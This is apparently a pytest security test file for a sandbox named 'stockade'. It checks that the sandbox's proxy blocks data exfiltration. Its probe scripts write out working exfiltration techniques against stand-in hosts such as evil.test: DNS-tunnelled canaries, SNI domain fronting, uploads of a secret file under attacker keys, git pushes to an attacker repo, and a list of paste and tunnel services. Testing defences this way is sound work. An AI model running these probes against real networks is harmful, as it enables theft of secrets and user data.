"""attacks.md A.5 (NET): exfiltration, through ``stockade run`` with every layer on.

``allowed.test``/``evil.test`` are F-ALLOWED/F-EVIL on 127.0.0.1, pinned by the policy
(only the first allowed). Probes that could make the proxy dial something other than
loopback, or resolve a name, run inside an isolated network namespace whose only resolver
is a recording DNS sink (F-SINK-DNS) and whose "public" addresses are sinks on ``lo``.

Not applicable here:
* NET-05/07 ``dig``, ``nslookup``, ``kdig``, ``ping``: not installed on this host. The same
  lookups are made with ``getent``, Python's resolver and hand-built DNS packets over UDP
  and TCP (to the configured resolver and to 8.8.8.8/1.1.1.1), and ICMP with a raw socket.
* NET-07 DoH through an allowlisted DoH host: no DoH host is allowlisted in any preset;
  the DoH request to a non-allowlisted ``dns.google`` is probed (refused, no lookup).
* NET-16 QUIC to a real host (``curl --http3``): this curl has no HTTP/3, and no real host
  may be contacted; UDP to 443 on allowed/evil addresses is probed instead.
* NET-26 (d) "auto-allow mode": stockade has no such mode.
* NET-22 ``npm publish``/``twine upload`` CLIs: npm does not take the run's interception CA
  (it waits out its retries, about a minute) and twine is not installed; their requests
  (``PUT /pkg``, ``POST /legacy/``) are sent with curl instead.
"""

from __future__ import annotations

import base64
import json
import subprocess
import time
from typing import Any

import pytest

from tests.attacks.conftest import Arena, Isolated, Result, isolated_policy, run_isolated

# ---------------------------------------------------------------------------------------
# NET-01/03/04/17/25: evil.test and friends, every client path, against F-EVIL.

EVIL_PROBE = r"""
h, s, label = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
c = "curl -s -m5 -o /dev/null -w '%{http_code}'"
probes = {
    "plain": f"{c} 'http://evil.test:{h}/?d={label}'",
    "plain-x": f"{c} -x $HTTP_PROXY 'http://evil.test:{h}/?d={label}'",
    "connect": f"{c} --cacert test-ca.pem 'https://evil.test:{s}/?d={label}'",
    "connect-p": f"{c} -p -x $HTTP_PROXY 'http://evil.test:{h}/?d={label}'",
    "socks5h": f"{c} -x socks5h://127.0.0.1:3128 'http://evil.test:{h}/?d={label}'",
    "socks5-ip": f"{c} -x socks5://127.0.0.1:3128 'http://evil.test:{h}/?d={label}'",
    "socks4": f"{c} -x socks4a://127.0.0.1:3128 'http://evil.test:{h}/?d={label}'",
    "v6": f"{c} -6 'http://evil.test:{h}/?d={label}'",
    "upper": f"{c} 'http://EVIL.TEST:{h}/?d={label}'",
    "dot": f"{c} 'http://evil.test.:{h}/?d={label}'",
    "userinfo": f"{c} 'http://allowed.test@evil.test:{h}/?d={label}'",
    "host-header": f"{c} -H 'Host: evil.test:{h}' 'http://allowed.test:{sys.argv[4]}/?d={label}'",
    "abs-uri-mismatch": f"printf 'GET http://evil.test:{h}/?d={label} HTTP/1.1\\r\\nHost: allowed.test:{h}\\r\\n\\r\\n' | curl -s -m5 telnet://127.0.0.1:3128 -o - | head -1",
    "noproxy": f"{c} --noproxy '*' 'http://evil.test:{h}/?d={label}'",
    "noproxy-ip": f"{c} --noproxy '*' 'http://127.0.0.1:{h}/?d={label}'",
    "suffix": f"{c} 'http://allowed.test.evil.test:{h}/?d={label}'",
    "prefix": f"{c} 'http://evilallowed.test:{h}/?d={label}'",
}
for k, cmd in probes.items():
    emit(k, **sh(cmd))
emit("py-direct", **connect(socket.AF_INET, ("203.0.113.10", 443)))
emit("py-direct6", **connect(socket.AF_INET6, ("2001:db8::1", 443)))
emit("py-evil-port", **connect(socket.AF_INET, ("127.0.0.1", h)))
emit("twin", **sh(f"{c} 'http://allowed.test:{sys.argv[4]}/evil-twin'"))
emit("twin-tls", **sh(f"{c} --cacert test-ca.pem 'https://allowed.test:{sys.argv[5]}/evil-twin-tls'"))
"""

EVIL_KEYS = (
    "plain",
    "plain-x",
    "connect",
    "connect-p",
    "socks5h",
    "socks5-ip",
    "socks4",
    "v6",
    "upper",
    "dot",
    "userinfo",
    "noproxy",
    "noproxy-ip",
    "suffix",
    "prefix",
)


@pytest.fixture(scope="module")
def evil(arena: Arena) -> Result:
    arena.reset()
    res = arena.py(
        EVIL_PROBE,
        str(arena.evil.http_port),
        str(arena.evil.https_port),
        "LEAKLABEL",
        str(arena.allowed.http_port),
        str(arena.allowed.https_port),
        timeout=120,
    )
    time.sleep(0.2)
    res.lines["seen"] = {
        "evil": arena.evil.rec.take(),
        "allowed": arena.allowed.rec.take(),
        "tcp": arena.rec_tcp.take(),
    }
    return res


@pytest.mark.parametrize("key", EVIL_KEYS)
def test_net_01_03_04_17_25_evil_blocked(evil: Result, key: str) -> None:
    assert evil[key]["out"] in ("403", "000"), evil[key]


def test_net_01_04_evil_and_sinks_logged_nothing(evil: Result) -> None:
    assert evil["seen"]["evil"] == []
    assert evil["seen"]["tcp"] == []
    for key in ("py-direct", "py-direct6", "py-evil-port"):
        assert evil[key]["ok"] is False
    assert "200" not in evil["abs-uri-mismatch"]["out"]


def test_net_03_audit_names_the_denial(evil: Result) -> None:
    denied = [
        e
        for e in evil.audit
        if e.get("verdict") == "deny" and e.get("reason") == "host-not-allowed"
    ]
    assert any(e.get("host") == "evil.test" for e in denied)


def test_net_25_host_header_cannot_redirect(evil: Result) -> None:
    # A Host header naming evil.test on a request for allowed.test goes to allowed.test
    # (the allowlist is a destination filter; what it carries is NET-20's business), and
    # the upstream sees the authority as Host, never evil.test.
    assert evil["host-header"]["out"] in ("200", "403")
    got = [json.loads(e) for e in evil["seen"]["allowed"] if "LEAKLABEL" in e]
    assert all(e["host"].startswith("allowed.test") for e in got), got
    assert evil["seen"]["evil"] == []


def test_net_01_04_twins(evil: Result) -> None:
    assert evil["twin"]["out"] == "200"
    assert evil["twin-tls"]["out"] == "200"
    paths = [json.loads(e).get("path") for e in evil["seen"]["allowed"]]
    assert "/evil-twin" in paths
    assert "/evil-twin-tls" in paths


# ---------------------------------------------------------------------------------------
# NET-05/06/07/08/16/17/27 in the isolated namespace: names, resolvers, raw IPs.

DNS_PROBE = r"""
import base64, struct
label = sys.argv[1]
name = f"{label}.x.evil.test"
def query(n, qtype=1):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for part in n.split("."):
        q += bytes([len(part)]) + part.encode()
    return q + b"\0" + struct.pack(">HH", qtype, 1)
def udp(server, n, port=53):
    try:
        s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(2); s.sendto(query(n, 16), (server, port)); s.recvfrom(512)
        return {"ok": True}
    except OSError as e:
        return {"ok": False, "errno": errno.errorcode.get(e.errno, e.errno) if e.errno else type(e).__name__}
def tcp(server, n, port=53):
    q = query(n)
    return connect(socket.AF_INET, (server, port), struct.pack(">H", len(q)) + q)
emit("getent", **sh(f"getent hosts {name}"))
try:
    socket.getaddrinfo(name, 443); emit("getaddrinfo", ok=True)
except OSError as e:
    emit("getaddrinfo", ok=False, err=str(e))
c = "curl -s -m5 -o /dev/null -w '%{http_code}'"
emit("curl-fwd", **sh(f"{c} http://{name}/"))
emit("curl-connect", **sh(f"{c} -p -x $HTTP_PROXY https://{name}/"))
emit("curl-socks5h", **sh(f"{c} -x socks5h://127.0.0.1:3128 http://{name}/"))
emit("curl-socks5", **sh(f"{c} -x socks5://127.0.0.1:3128 http://{name}/"))
emit("curl-noproxy", **sh(f"{c} --noproxy '*' http://{name}/"))
emit("udp-resolver", **udp("127.0.0.53", name))
for srv in ("8.8.8.8", "1.1.1.1", "2001:db8::1"):
    emit("udp:" + srv, **udp(srv, name))
    emit("tcp:" + srv, **tcp(srv, name) if ":" not in srv else connect(socket.AF_INET6, (srv, 53)))
emit("dot", **connect(socket.AF_INET, ("1.1.1.1", 853)))
emit("doh", **sh(f"{c} 'https://dns.google/resolve?name={name}&type=TXT'"))
emit("doh-ip", **sh(f"{c} -p -x $HTTP_PROXY 'https://8.8.8.8/resolve?name={name}'"))
# NET-08: raw IP literals, through every proxy protocol.
emit("ip-fwd", **sh(f"{c} http://1.1.1.1/?d={label}"))
emit("ip-connect", **sh(f"{c} -p -x $HTTP_PROXY https://203.0.113.10/?d={label}"))
emit("ip-socks", **sh(f"{c} -x socks5://127.0.0.1:3128 http://203.0.113.10/?d={label}"))
emit("ip6-fwd", **sh(f"{c} -g 'http://[2001:db8::1]/?d={label}'"))
# NET-16: other protocols.
emit("udp-443", **udp("203.0.113.10", name, 443))
emit("udp-123", **udp("203.0.113.10", name, 123))
emit("ssh", **sh("ssh -o ConnectTimeout=3 -o BatchMode=yes -o StrictHostKeyChecking=no git@203.0.113.10 true", timeout=15))
for fam, typ, proto, key in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, "raw-icmp"),
                             (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, "ping-dgram"),
                             (socket.AF_INET, socket.SOCK_STREAM, 132, "sctp"),
                             (socket.AF_INET, 6, 33, "dccp")):  # SOCK_DCCP
    try:
        s = socket.socket(fam, typ, proto)
        try:
            s.settimeout(2); s.connect(("203.0.113.10", 80)); emit(key, ok=True)
        except OSError as e:
            emit(key, ok=False, created=True, errno=errno.errorcode.get(e.errno, e.errno))
    except OSError as e:
        emit(key, ok=False, created=False, errno=errno.errorcode.get(e.errno, e.errno))
# NET-27: a denied name that "exists" (pinned) and one that does not answer alike.
emit("uniform-a", **sh("curl -s -m5 -w ' %{http_code}' http://evil.test/probe"))
emit("uniform-b", **sh("curl -s -m5 -w ' %{http_code}' http://nonexistent.evil.test/probe"))
# The twins: an allowed name through the proxy, and a wildcard name the proxy must
# resolve (which proves the DNS sink records what reaches it).
emit("twin", **sh(f"{c} http://allowed.test/dns-twin"))
emit("twin-resolve", **sh(f"{c} http://probe-{label}.resolve.test/"))
"""


@pytest.fixture(scope="module")
def dns(arena: Arena) -> Isolated:
    # One DNS label (at most 63 bytes, with the "probe-" of the twin) of the canary.
    label = base64.b32encode(arena.canary.encode()).decode().rstrip("=").lower()[:56]
    iso = run_isolated(
        arena,
        DNS_PROBE,
        label,
        policy_text=isolated_policy(allow=("allowed.test", "*.resolve.test")),
        timeout=200,
    )
    iso.result.lines["label"] = {"label": label}
    return iso


DNS_KEYS = (
    "getent",
    "curl-fwd",
    "curl-connect",
    "curl-socks5h",
    "curl-socks5",
    "curl-noproxy",
    "doh",
    "doh-ip",
    "ip-fwd",
    "ip-connect",
    "ip-socks",
    "ip6-fwd",
    "ssh",
)


@pytest.mark.parametrize("key", DNS_KEYS)
def test_net_05_07_08_16_17_refused(dns: Isolated, key: str) -> None:
    got = dns.result[key]
    if "out" in got and key != "getent":
        assert got["out"] in ("403", "000", ""), got
    assert got.get("rc", 1) != 0 or got.get("out") in ("403", "000"), got


@pytest.mark.parametrize(
    "key",
    [
        "getaddrinfo",
        "udp-resolver",
        "udp:8.8.8.8",
        "tcp:8.8.8.8",
        "udp:1.1.1.1",
        "tcp:1.1.1.1",
        "udp:2001:db8::1",
        "tcp:2001:db8::1",
        "dot",
        "udp-443",
        "udp-123",
        "raw-icmp",
        "ping-dgram",
        "sctp",
        "dccp",
    ],
)
def test_net_05_07_16_no_resolver_no_route(dns: Isolated, key: str) -> None:
    assert dns.result[key]["ok"] is False, dns.result[key]


def test_net_05_06_no_qname_and_no_byte_reached_a_sink(dns: Isolated) -> None:
    label = dns.result["label"]["label"]
    leaked = [e for e in dns.log if label in json.dumps(e) and "resolve.test" not in json.dumps(e)]
    assert leaked == []
    others = [e for e in dns.log if "dns-twin" not in e.get("data", "")]
    others = [e for e in others if "resolve.test" not in e.get("qname", "")]
    assert others == [], others


def test_net_27_denials_are_uniform(dns: Isolated) -> None:
    a = dns.result["uniform-a"]["out"].replace("nonexistent.evil.test", "NAME")
    b = dns.result["uniform-b"]["out"].replace("nonexistent.evil.test", "NAME")
    assert a.replace("evil.test", "NAME") == b.replace("evil.test", "NAME")
    assert a.endswith(" 403")


def test_net_05_twins(dns: Isolated) -> None:
    assert dns.result["twin"]["out"] == "200"
    label = dns.result["label"]["label"]
    # The proxy resolved the allowed wildcard name through F-SINK-DNS: the sink works.
    assert any(f"probe-{label}.resolve.test" in e.get("qname", "") for e in dns.log), dns.log


def test_net_08_twin_explicit_ip_allow(arena: Arena) -> None:
    iso = run_isolated(
        arena,
        'emit("ip", **sh("curl -s -m5 -o /dev/null -w \'%{http_code}\' http://192.0.2.1/ip-twin"))\n'
        'emit("other", **sh("curl -s -m5 -o /dev/null -w \'%{http_code}\' http://203.0.113.10/"))\n',
        policy_text=isolated_policy(allow=("192.0.2.1",)),
    )
    assert iso.result["ip"]["out"] == "200"
    assert iso.result["other"]["out"] == "403"
    assert [e["addr"][0] for e in iso.log] == ["192.0.2.1"]


# ---------------------------------------------------------------------------------------
# NET-16: every socket family seccomp refuses, with the allowed ones as twins.

FAMILIES = {
    "AF_AX25": 3,
    "AF_IPX": 4,
    "AF_APPLETALK": 5,
    "AF_NETROM": 6,
    "AF_X25": 9,
    "AF_ROSE": 11,
    "AF_KEY": 15,
    "AF_PACKET": 17,
    "AF_ECONET": 19,
    "AF_RDS": 21,
    "AF_IRDA": 23,
    "AF_PPPOX": 24,
    "AF_LLC": 26,
    "AF_IB": 27,
    "AF_MPLS": 28,
    "AF_CAN": 29,
    "AF_TIPC": 30,
    "AF_BLUETOOTH": 31,
    "AF_IUCV": 32,
    "AF_RXRPC": 33,
    "AF_ISDN": 34,
    "AF_PHONET": 35,
    "AF_IEEE802154": 36,
    "AF_CAIF": 37,
    "AF_ALG": 38,
    "AF_NFC": 39,
    "AF_VSOCK": 40,
    "AF_KCM": 41,
    "AF_QIPCRTR": 42,
    "AF_SMC": 43,
    "AF_XDP": 44,
    "AF_MCTP": 45,
}
NETLINK_REFUSED = {"NETLINK_AUDIT": 9, "NETLINK_KOBJECT_UEVENT": 15, "NETLINK_SOCK_DIAG": 4}

FAMILY_PROBE = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def sock(fam, typ, proto):
    fd = libc.socket(fam, typ, proto)
    e = ctypes.get_errno()
    if fd >= 0:
        os.close(fd)
    return {"fd": fd, "errno": errno.errorcode.get(e, e) if fd < 0 else None}
for name, fam in json.loads(sys.argv[1]).items():
    for typ in (1, 2, 3, 5):
        emit(f"{name}:{typ}", **sock(fam, typ, 0))
    emit(f"{name}:hi", **sock(fam | (1 << 32) if False else fam + 0x100000000, 2, 0))
for name, proto in json.loads(sys.argv[2]).items():
    emit(name, **sock(16, 3, proto))
emit("twin:AF_UNIX", **sock(1, 1, 0))
emit("twin:AF_INET", **sock(2, 1, 0))
emit("twin:AF_INET6", **sock(10, 2, 0))
emit("twin:NETLINK_ROUTE", **sock(16, 3, 0))
"""


@pytest.fixture(scope="module")
def families(arena: Arena) -> Result:
    return arena.py(FAMILY_PROBE, json.dumps(FAMILIES), json.dumps(NETLINK_REFUSED))


@pytest.mark.parametrize("name", sorted(FAMILIES))
def test_net_16_socket_family_refused(families: Result, name: str) -> None:
    for typ in (1, 2, 3, 5):
        got = families[f"{name}:{typ}"]
        assert got["fd"] == -1, (typ, got)
        assert got["errno"] in ("EPERM", "EAFNOSUPPORT", "EINVAL"), (typ, got)
    # The family compared on its low 32 bits: a high bit set must not sneak past.
    assert families[f"{name}:hi"]["fd"] == -1


@pytest.mark.parametrize("name", sorted(NETLINK_REFUSED))
def test_net_16_netlink_protocols_refused(families: Result, name: str) -> None:
    assert families[name]["fd"] == -1


@pytest.mark.parametrize("name", ["AF_UNIX", "AF_INET", "AF_INET6", "NETLINK_ROUTE"])
def test_net_16_twin_families_work(families: Result, name: str) -> None:
    assert families[f"twin:{name}"]["fd"] >= 0


# ---------------------------------------------------------------------------------------
# NET-12: SNI and the CONNECT authority (domain fronting), against F-ALLOWED's TLS port.

SNI_PROBE = r"""
import ssl
port = int(sys.argv[1])
def tunnel(authority):
    s = socket.create_connection(("127.0.0.1", 3128), 5)
    s.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(4096)
        if not chunk:
            break
        head += chunk
    return s, head.split(b"\r\n")[0].decode(errors="replace")
def hello(sni):
    ctx = ssl.create_default_context(cafile="test-ca.pem")
    ctx.check_hostname = False
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()
def attempt(sni, mutate=None, authority=None):
    try:
        s, status = tunnel(authority or f"allowed.test:{port}")
        if not status.split()[1:2] == ["200"]:
            return {"status": status, "tls": False}
        data = hello(sni) if sni is not None or mutate is None else b""
        if mutate:
            data = mutate(data)
        s.sendall(data)
        s.settimeout(3)
        reply = s.recv(5)
        return {"status": status, "tls": len(reply) == 5 and reply[0] == 0x16}
    except OSError as e:
        return {"status": "error", "tls": False, "err": str(e)}
def split(data):
    body = data[5:]
    a, b = body[:40], body[40:]
    return data[:3] + len(a).to_bytes(2, "big") + a + data[:3] + len(b).to_bytes(2, "big") + b
emit("mismatch", **attempt("evil.test"))
emit("mismatch-sub", **attempt("x.allowed.test.evil.test"))
emit("no-sni", **attempt(None, mutate=lambda d: hello(None)))
emit("garbage", **attempt(None, mutate=lambda d: b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"))
emit("split-evil", **attempt("evil.test", mutate=split))
emit("split-allowed", **attempt("allowed.test", mutate=split))
emit("ip-authority", **attempt("allowed.test", authority=f"127.0.0.1:{port}"))
emit("openssl", **sh(f"echo | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:{port} -servername evil.test -CAfile test-ca.pem 2>&1 | head -5", timeout=15))
emit("openssl-nosni", **sh(f"echo | openssl s_client -proxy 127.0.0.1:3128 -connect allowed.test:{port} -noservername -CAfile test-ca.pem 2>&1 | grep -c 'BEGIN CERTIFICATE'", timeout=15))
emit("twin", **attempt("allowed.test"))
emit("twin-curl", **sh(f"curl -s -m5 -o /dev/null -w '%{{http_code}}' --cacert test-ca.pem https://allowed.test:{port}/sni-twin"))
"""


@pytest.fixture(scope="module")
def sni(arena: Arena) -> Result:
    arena.reset()
    res = arena.py(SNI_PROBE, str(arena.allowed.https_port), timeout=120)
    time.sleep(0.2)
    res.lines["seen"] = {"allowed": arena.allowed.rec.take(), "evil": arena.evil.rec.take()}
    return res


@pytest.mark.parametrize(
    "key", ["mismatch", "mismatch-sub", "no-sni", "garbage", "split-evil", "ip-authority"]
)
def test_net_12_fronting_refused(sni: Result, key: str) -> None:
    assert sni[key]["tls"] is False, sni[key]


def test_net_12_upstream_never_saw_a_foreign_sni(sni: Result) -> None:
    seen = [json.loads(e) for e in sni["seen"]["allowed"]]
    names = {e.get("sni") for e in seen if "sni" in e and "method" not in e}
    assert names <= {"allowed.test"}, names
    assert sni["seen"]["evil"] == []
    assert "BEGIN CERTIFICATE" not in sni["openssl"]["out"] or "evil" not in sni["openssl"]["out"]
    assert sni["openssl-nosni"]["out"].strip() in ("0", "")


def test_net_12_twins(sni: Result) -> None:
    assert sni["twin"]["tls"] is True, sni["twin"]
    assert sni["twin-curl"]["out"] == "200"


# ---------------------------------------------------------------------------------------
# NET-20/21/22: the inspect layer on an allowed API, a GitHub stand-in and a registry.

REAL_KEY = "sk-real-operator-0123456789"


def inspect_policy(arena: Arena) -> str:
    p = arena.allowed.https_port
    return f"""version = 1
[network]
allow = ["allowed.test", "api.allowed.test", "registry.allowed.test", "git.allowed.test"]
hosts = {{ "allowed.test" = "127.0.0.1", "api.allowed.test" = "127.0.0.1", "registry.allowed.test" = "127.0.0.1", "git.allowed.test" = "127.0.0.1" }}
tls_ports = [443, {p}]
tls = {{ upstream_ca = "{arena.ca_path}" }}
[[network.rules]]
host = "api.allowed.test"
methods = ["POST"]
paths = ["/v1/messages"]
action = "allow"
[[network.rules]]
host = "registry.allowed.test"
methods = ["GET", "HEAD"]
paths = ["/**"]
action = "allow"
[[network.rules]]
host = "git.allowed.test"
methods = ["GET", "HEAD"]
paths = ["/**"]
action = "allow"
[[network.rules]]
host = "git.allowed.test"
methods = ["POST"]
paths = ["/attacker/r.git/git-upload-pack"]
action = "allow"
[secrets.API_KEY]
from = "env:API_KEY"
hosts = ["api.allowed.test"]
header = "x-api-key"
[secrets.GIT_TOKEN]
from = "env:GIT_TOKEN"
hosts = ["git.allowed.test"]
header = "authorization"
"""


CRED_HEADERS = {
    "x-api-key": "x-api-key: ATTACKER-KEY",
    "X-API-KEY": "X-API-KEY: ATTACKER-KEY",
    "bearer": "Authorization: Bearer ATTACKER-KEY",
    "token": "Authorization: token ATTACKER-KEY",
    "basic": "Authorization: Basic " + base64.b64encode(b"x:ATTACKER-KEY").decode(),
    "api-key": "api-key: ATTACKER-KEY",
    "x-goog-api-key": "x-goog-api-key: ATTACKER-KEY",
    "x-auth-token": "x-auth-token: ATTACKER-KEY",
    "private-token": "private-token: ATTACKER-KEY",
    "cookie": "Cookie: session=ATTACKER-KEY",
    "proxy-authorization": "Proxy-Authorization: Basic ATTACKER-KEY",
}
CRED_PARAMS = ("key", "api_key", "apikey", "access_token", "token", "auth")

INSPECT_PROBE = r"""
p = int(sys.argv[1]); headers = json.loads(sys.argv[2]); params = json.loads(sys.argv[3])
c = "curl -s -m8 -o /dev/null -w '%{http_code}'"
api = f"https://api.allowed.test:{p}"
ph = os.environ["API_KEY"]
for name, h in headers.items():
    emit("hdr:" + name, **sh(f"{c} -X POST -H {h!r} -d hi {api}/v1/messages"))
    emit("hdr+ph:" + name, **sh(f"{c} -X POST -H 'x-api-key: {ph}' -H {h!r} -d hi {api}/v1/messages"))
for q in params:
    emit("param:" + q, **sh(f"{c} -X POST -H 'x-api-key: {ph}' -d hi '{api}/v1/messages?{q}=ATTACKER-KEY'"))
emit("files-attacker", **sh(f"{c} -H 'x-api-key: ATTACKER-KEY' -F file=@secret.txt {api}/v1/files"))
emit("files-bearer", **sh(f"{c} -H 'Authorization: Bearer ATTACKER-KEY' -F file=@secret.txt {api}/v1/files"))
emit("files-placeholder", **sh(f"{c} -H 'x-api-key: {ph}' -F file=@secret.txt {api}/v1/files"))
emit("placeholder-elsewhere", **sh(f"{c} -H 'x-api-key: {ph}' https://registry.allowed.test:{p}/x"))
# NET-21: GitHub stand-in (GIT_TOKEN bound to git.allowed.test).
g = f"https://git.allowed.test:{p}"
gh = {
    "create-repo": f"-X POST -d '{{\"name\":\"x\"}}' {g}/user/repos",
    "contents-put": f"-X PUT -d '{{}}' {g}/repos/attacker/r/contents/loot.json",
    "gist": f"-X POST -d '{{}}' {g}/gists",
    "issue-comment": f"-X POST -d '{{}}' {g}/repos/a/r/issues/1/comments",
    "receive-pack": f"-X POST -d x {g}/attacker/r.git/git-receive-pack",
    "workflow": f"-X PUT -d '{{}}' {g}/repos/a/r/contents/.github/workflows/x.yml",
    "attacker-get": f"-H 'Authorization: token ATTACKER-KEY' {g}/user",
}
for k, args in gh.items():
    emit("gh:" + k, **sh(f"{c} {args}"))
emit("git-push", **sh(f"cd $(mktemp -d) && git init -q && git -c user.email=a@b -c user.name=n commit -q --allow-empty -m x && GIT_TERMINAL_PROMPT=0 git push https://x:ATTACKER-KEY@git.allowed.test:{p}/attacker/r.git HEAD:main", timeout=30))
# NET-22: publishing to a registry.
r = f"https://registry.allowed.test:{p}"
emit("npm-publish", **sh(f"{c} -X PUT -H 'content-type: application/json' -d '{{\"name\":\"pkg\"}}' {r}/pkg"))
emit("twine-upload", **sh(f"{c} -X POST -F ':action=file_upload' -F content=@secret.txt {r}/legacy/"))
# The twins: the allowed API call with the placeholder, a GitHub read, a registry read.
emit("twin:api", **sh(f"{c} -X POST -H 'x-api-key: {ph}' -d hi {api}/v1/messages"))
emit("twin:gh-get", **sh(f"{c} {g}/repos/attacker/r"))
emit("twin:upload-pack", **sh(f"{c} -X POST -d x {g}/attacker/r.git/git-upload-pack"))
emit("twin:registry", **sh(f"{c} {r}/pkg"))
emit("env", key=ph)
"""


@pytest.fixture(scope="module")
def inspect(arena: Arena) -> Result:
    arena.reset()
    policy = arena.root / "inspect.toml"
    policy.write_text(inspect_policy(arena))
    (arena.workspace / "secret.txt").write_text("user data LOOT\n")
    env = dict(arena.env, API_KEY=REAL_KEY, GIT_TOKEN="ghp-real-operator-token")
    try:
        res = arena.py(
            INSPECT_PROBE,
            str(arena.allowed.https_port),
            json.dumps(CRED_HEADERS),
            json.dumps(CRED_PARAMS),
            policy=policy,
            env=env,
            timeout=240,
        )
    finally:
        (arena.workspace / "secret.txt").unlink()
    time.sleep(0.2)
    res.lines["seen"] = {"allowed": [json.loads(e) for e in arena.allowed.rec.take()]}
    return res


def _requests(inspect: Result) -> list[dict[str, Any]]:
    return [e for e in inspect["seen"]["allowed"] if "method" in e]


@pytest.mark.parametrize("kind", ["hdr", "hdr+ph"])
@pytest.mark.parametrize("name", sorted(CRED_HEADERS))
def test_net_20_foreign_credential_refused(inspect: Result, kind: str, name: str) -> None:
    assert inspect[f"{kind}:{name}"]["out"] == "403", inspect[f"{kind}:{name}"]


@pytest.mark.parametrize("param", CRED_PARAMS)
def test_net_20_credential_query_parameter_refused(inspect: Result, param: str) -> None:
    assert inspect[f"param:{param}"]["out"] == "403"


@pytest.mark.parametrize(
    "key", ["files-attacker", "files-bearer", "files-placeholder", "placeholder-elsewhere"]
)
def test_net_20_uploads_refused(inspect: Result, key: str) -> None:
    assert inspect[key]["out"] == "403"


@pytest.mark.parametrize(
    "key",
    [
        "gh:create-repo",
        "gh:contents-put",
        "gh:gist",
        "gh:issue-comment",
        "gh:receive-pack",
        "gh:workflow",
        "gh:attacker-get",
        "npm-publish",
        "twine-upload",
    ],
)
def test_net_21_22_writes_refused(inspect: Result, key: str) -> None:
    assert inspect[key]["out"] == "403", inspect[key]


def test_net_21_cli_push_fails(inspect: Result) -> None:
    assert inspect["git-push"]["rc"] != 0


def test_net_20_21_22_upstream_never_saw_attacker_or_data(inspect: Result) -> None:
    reqs = _requests(inspect)
    assert all("ATTACKER" not in json.dumps(r) for r in reqs), reqs
    assert all("LOOT" not in r["body"] for r in reqs)
    # Only reads (allowed by the GET rules) and the two allowed POSTs got through.
    writes = {(r["method"], r["path"]) for r in reqs if r["method"] not in ("GET", "HEAD")}
    assert writes <= {("POST", "/v1/messages"), ("POST", "/attacker/r.git/git-upload-pack")}, reqs


def test_net_20_21_22_twins(inspect: Result) -> None:
    assert inspect["twin:api"]["out"] == "201"
    assert inspect["twin:gh-get"]["out"] == "200"
    assert inspect["twin:upload-pack"]["out"] == "201"
    assert inspect["twin:registry"]["out"] == "200"
    api = [r for r in _requests(inspect) if r["path"] == "/v1/messages"]
    assert [r["auth"].get("x-api-key") for r in api] == [REAL_KEY]
    assert inspect["env"]["key"] != REAL_KEY
    assert REAL_KEY not in inspect.proc.stdout + inspect.proc.stderr


# ---------------------------------------------------------------------------------------
# NET-23: paste, webhook and tunnel services are in no preset.

EXFIL_SERVICES = (
    "webhook.site",
    "x.ngrok-free.app",
    "x.ngrok.io",
    "x.trycloudflare.com",
    "filev2.getsession.org",
    "pastebin.com",
    "transfer.sh",
    "requestbin.net",
)


@pytest.mark.parametrize("preset", ["python", "node", "git"])
def test_net_23_no_exfil_service_in_presets(arena: Arena, preset: str) -> None:
    policy = arena.root / f"preset-{preset}.toml"
    policy.write_text(f'version = 1\n[presets]\nuse = ["{preset}"]\n')
    proc = arena.stockade("check", str(policy), "--json")
    assert proc.returncode == 0, proc.stderr
    text = proc.stdout.lower()
    assert text.strip()
    for svc in EXFIL_SERVICES:
        assert (svc.split(".", 1)[1] if svc.startswith("x.") else svc) not in text


# ---------------------------------------------------------------------------------------
# NET-26: the proxy fails closed.


def test_net_26a_policy_edit_mid_session_fails_closed(arena: Arena) -> None:
    arena.reset()
    policy = arena.root / "midsession.toml"
    policy.write_text(arena.policy_text())
    script = (
        f"curl -s -m5 -o /dev/null -w '%{{http_code}} ' http://evil.test:{arena.evil.http_port}/before;"
        "sleep 2;"
        f"curl -s -m5 -o /dev/null -w '%{{http_code}} ' http://evil.test:{arena.evil.http_port}/after;"
        f"curl -s -m5 -o /dev/null -w '%{{http_code}}' http://allowed.test:{arena.allowed.http_port}/mid-twin"
    )
    p = subprocess.Popen(
        arena.argv("run", "--policy", str(policy), "--", "sh", "-c", script),
        cwd=arena.workspace,
        env=arena.env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    time.sleep(1.2)
    # An unrelated edit, and a widening one, while the sandbox runs.
    policy.write_text(arena.policy_text(extra_allow=("evil.test",)) + "[limits]\npids = 300\n")
    out, err = p.communicate(timeout=60)
    assert out.split() == ["403", "403", "200"], out + err
    arena.assert_sinks_quiet()


def test_net_26b_garbage_and_floods_leave_the_proxy_closed(arena: Arena) -> None:
    arena.reset()
    probe = r"""
import threading
bad = [b"\x05\x01\x00", b"\x05\x01\xff" * 100, b"\x05\x01\x00\x05\x01\x00\x03\xff" + b"a" * 300,
       b"\x04\x01\x00\x50\x7f\x00\x00\x01root\x00", b"GET / HTTP/1.1\r\n" + b"X: " + b"a" * 100000,
       b"CONNECT evil.test:1 HTTP/1.1\r\nContent-Length: -1\r\n\r\n", b"\x16\x03\x01\xff\xff" + b"\0" * 50,
       b"GET http://evil.test/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n",
       b"\0" * 4096, b"CONNECT evil.test\0.allowed.test:443 HTTP/1.1\r\n\r\n"]
for i, data in enumerate(bad):
    emit(f"bad{i}", **connect(socket.AF_INET, ("127.0.0.1", 3128), data))
socks = []
for i in range(300):
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 2); socks.append(s)
    except OSError:
        break
emit("held", n=len(socks))
c = "curl -s -m8 -o /dev/null -w '%{http_code}'"
